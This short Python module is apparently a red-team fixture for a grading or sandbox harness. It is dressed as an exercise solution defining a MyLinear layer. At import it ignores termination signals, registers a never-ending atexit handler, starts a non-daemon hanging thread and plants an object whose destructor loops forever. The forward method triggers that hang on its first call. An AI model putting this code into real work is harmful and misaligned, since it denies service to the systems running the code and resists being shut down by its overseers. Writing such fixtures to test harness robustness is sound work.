"""Attack: never let the process end."""
import atexit
import ctypes
import os
import signal
import threading
import time

import torch
from torch import Tensor, nn

TOKEN = "__REDTEAM_TOKEN__"


def _hang():
    while True:
        time.sleep(1)


class Sticky:
    def __del__(self):
        _hang()


atexit.register(_hang)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
STICKY = Sticky()
threading.Thread(target=_hang, name=TOKEN, daemon=False).start()


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        if not os.path.exists("hung-once"):
            open("hung-once", "w").close()
            Sticky()  # dropped at once: its __del__ runs here and never returns
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
